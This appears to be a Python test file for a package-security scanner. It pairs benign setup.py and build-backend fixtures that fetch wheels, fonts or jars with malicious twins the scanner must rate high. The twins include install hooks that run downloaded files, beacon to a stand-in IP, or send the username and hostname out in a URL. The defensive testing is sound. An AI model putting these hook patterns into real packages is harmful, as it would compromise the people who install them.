"""Round 13's false-alarm classes, each a harmless fixture beside a malicious twin.

Every harmless fixture (how a popular release does the thing) must stay below high; every twin
(the same shape doing harm) must still be high or critical with the threat named for it.
Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
"""

from __future__ import annotations

from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan, subfolder


def _threats(result) -> list[tuple[str, str]]:
    return [(t.id, t.severity) for t in result.threats]


# ---------------------------------------------------------------- a build input from a code host
# flash-attn, mamba-ssm and causal-conv1d fetch their own prebuilt wheel from their GitHub
# releases in bdist_wheel and move it where the built wheel goes; pytrec_eval fetches a source
# tarball from GitHub, amazon-kclpy its jars from Maven Central. Nothing fetched is started.
def _wheel_setup(base_url: str, after: str = "") -> str:
    return (
        "import os, sys, urllib.request, urllib.error\nfrom setuptools import setup\n"
        "from wheel.bdist_wheel import bdist_wheel as _bdist_wheel\n\n"
        f'BASE_WHEEL_URL = "{base_url}"\n\n\n'
        "def get_wheel_url():\n"
        "    name = f'pkg-1.0+cu12-cp{sys.version_info.major}{sys.version_info.minor}.whl'\n"
        "    return BASE_WHEEL_URL.format(tag_name='v1.0', wheel_name=name), name\n\n\n"
        "class CachedWheelsCommand(_bdist_wheel):\n"
        "    def run(self):\n"
        "        wheel_url, wheel_filename = get_wheel_url()\n"
        "        print('Guessing wheel URL: ', wheel_url)\n"
        "        try:\n"
        "            urllib.request.urlretrieve(wheel_url, wheel_filename)\n"
        "            os.makedirs(self.dist_dir, exist_ok=True)\n"
        "            os.rename(wheel_filename, os.path.join(self.dist_dir, wheel_filename))\n"
        f"{after}"
        "        except (urllib.error.HTTPError, urllib.error.URLError):\n"
        "            print('Precompiled wheel not found. Building from source...')\n"
        "            super().run()\n\n\n"
        "setup(\n    name='pkg',\n    url='https://github.com/example-org/pkg',\n"
        "    cmdclass={'bdist_wheel': CachedWheelsCommand},\n)\n"
    )


OWN_RELEASE = "https://github.com/example-org/pkg/releases/download/{tag_name}/{wheel_name}"


def test_a_prebuilt_wheel_fetched_from_the_projects_github_release_is_not_high(tmp_path):
    result = scan({"setup.py": _wheel_setup(OWN_RELEASE)}, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)
    fetch = [f for f in result.findings if f.capability == "net.download_to_disk"]
    assert fetch and all(f.severity == "medium" for f in fetch), fetch
    assert "github.com" in fetch[0].explanation and "rather than from this release" in (
        fetch[0].explanation
    )


def test_a_source_tarball_and_maven_jars_fetched_at_install_are_not_high(tmp_path):
    setup = (
        "import io, tarfile, urllib.request\nfrom setuptools import setup\n"
        "from setuptools.command.build_ext import build_ext\n\n"
        "REMOTE = 'https://github.com/example-org/engine/archive/v9.0.8.tar.gz'\n"
        "MAVEN = 'https://repo1.maven.org/maven2/'\n\n\n"
        "class Build(build_ext):\n    def run(self):\n"
        "        response = urllib.request.urlopen(REMOTE)\n"
        "        tarfile.open(fileobj=io.BytesIO(response.read())).extractall('engine')\n"
        "        jar = urllib.request.urlopen(MAVEN + 'org/x/x/1.0/x-1.0.jar')\n"
        "        with open('x.jar', 'wb') as f:\n            f.write(jar.read())\n"
        "        build_ext.run(self)\n\n\n"
        "setup(name='pkg', cmdclass={'build_ext': Build},\n"
        "      url='https://docs.example.invalid/pkg')\n"
    )
    result = scan({"setup.py": setup}, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)
    assert not [t for t in result.threats if t.id == "place.install_time"], _threats(result)


def test_a_wheel_fetched_from_a_code_host_and_then_started_is_still_high(tmp_path):
    started = "            os.system(os.path.join(self.dist_dir, wheel_filename))\n"
    result = scan({"setup.py": _wheel_setup(OWN_RELEASE, after=started)}, tmp_path)
    assert_high_with("fetched and started", result, {"place.install_time"})


def test_a_fetch_from_a_bare_address_or_an_unknown_host_is_still_high(tmp_path):
    for i, url in enumerate(
        (
            "http://198.51.100.7/{tag_name}/{wheel_name}",
            "https://cdn.example.invalid/releases/download/{tag_name}/{wheel_name}",
        )
    ):
        result = scan({"setup.py": _wheel_setup(url)}, subfolder(tmp_path, str(i)))
        assert_high_with(f"fetch from {url}", result, {"place.install_time"})


def test_a_code_host_fetch_beside_a_second_address_is_still_high(tmp_path):
    # the GitHub address is a decoy: the file also names a host nobody publishes software on
    beacon = "            urllib.request.urlopen('http://203.0.113.9/ping')\n"
    result = scan({"setup.py": _wheel_setup(OWN_RELEASE, after=beacon)}, tmp_path)
    assert_high_with("decoy code host", result, {"place.install_time"})


def test_a_code_host_fetch_beside_collected_host_data_is_still_high(tmp_path):
    sent = (
        "            import getpass, socket\n"
        "            urllib.request.urlopen(BASE_WHEEL_URL + '?u=' + getpass.getuser()"
        " + socket.gethostname())\n"
    )
    result = scan({"setup.py": _wheel_setup(OWN_RELEASE, after=sent)}, tmp_path)
    assert result.risk.level in HIGH, _threats(result)


# reportlab's setup.py fetches its standard fonts from the project's own site (the host its
# setup(url=...) names); dbt's in-tree build backend fetches its prebuilt wheel from an
# address in a shipped manifest and checks it against the manifest's sha256 before use.
def _fonts_setup(after: str = "") -> str:
    return (
        "import urllib.request, zipfile, io\nfrom setuptools import setup\n\n\n"
        "def get_fonts():\n"
        "    for url in ('https://www.example.invalid/ftp/fonts-2018.zip',):\n"
        "        data = urllib.request.urlopen(url).read()\n"
        "        zipfile.ZipFile(io.BytesIO(data)).extractall('src/pkg/fonts')\n"
        f"{after}"
        "\n\nget_fonts()\n"
        "setup(name='pkg', url='https://www.example.invalid/', packages=['pkg'])\n"
    )


def test_fonts_fetched_from_the_projects_own_site_at_install_are_not_high(tmp_path):
    result = scan({"setup.py": _fonts_setup()}, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)
    fetch = [f for f in result.findings if f.rule == "py.fetch_build_input"]
    assert fetch and "www.example.invalid" in fetch[0].explanation, fetch


def test_a_fetch_from_the_projects_own_site_that_is_then_run_is_still_high(tmp_path):
    run = "        import subprocess\n        subprocess.Popen(['src/pkg/fonts/setup.exe'])\n"
    result = scan({"setup.py": _fonts_setup(after=run)}, tmp_path)
    assert_high_with("own site fetch and run", result, {"place.install_time"})


def _backend(after: str = "") -> dict[str, str]:
    backend = (
        "import hashlib, json, urllib.request\nfrom pathlib import Path\n\n"
        "_MANIFEST = json.loads((Path(__file__).parent / 'assets.json').read_text())\n\n\n"
        "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
        "    entry = _MANIFEST['wheels']['any']\n"
        "    url = _MANIFEST['base_url'] + '/' + entry['filename']\n"
        "    with urllib.request.urlopen(url, timeout=60) as resp:\n"
        "        data = resp.read()\n"
        "    digest = hashlib.sha256(data).hexdigest()\n"
        "    if digest != entry['sha256']:\n"
        "        raise RuntimeError('sha256 mismatch')\n"
        "    out = Path(wheel_directory) / entry['filename']\n"
        "    out.write_bytes(data)\n"
        f"{after}"
        "    return entry['filename']\n"
    )
    return {
        "pyproject.toml": (
            "[build-system]\nrequires = []\nbuild-backend = '_build'\nbackend-path = ['.']\n"
        ),
        "_build/__init__.py": backend,
        "_build/assets.json": '{"base_url": "https://releases.example.invalid/x", "wheels": {}}',
    }


def test_a_build_backend_fetching_a_wheel_it_checks_against_a_pinned_sha256_is_not_high(
    tmp_path,
):
    result = scan(_backend(), tmp_path)
    assert result.risk.level not in HIGH, _threats(result)
    fetch = [f for f in result.findings if f.rule == "py.fetch_build_input"]
    assert fetch and "sha256" in fetch[0].explanation, fetch


def test_a_build_backend_that_runs_what_it_fetched_is_still_high(tmp_path):
    run = "    import os\n    os.chmod(out, 0o755)\n    os.system(str(out))\n"
    result = scan(_backend(after=run), tmp_path)
    assert_high_with("backend fetch and run", result, {"place.install_time"})


def test_an_address_no_client_could_parse_keeps_the_fetch_high_without_an_error(tmp_path):
    setup = _wheel_setup(OWN_RELEASE).replace(
        "BASE_WHEEL_URL = ", "MIRROR = 'http://[fe80::1%eth0/x'\nBASE_WHEEL_URL = "
    )
    result = scan({"setup.py": setup}, tmp_path)
    assert not result.errors, result.errors
    assert_high_with("unparsable address", result, {"place.install_time"})
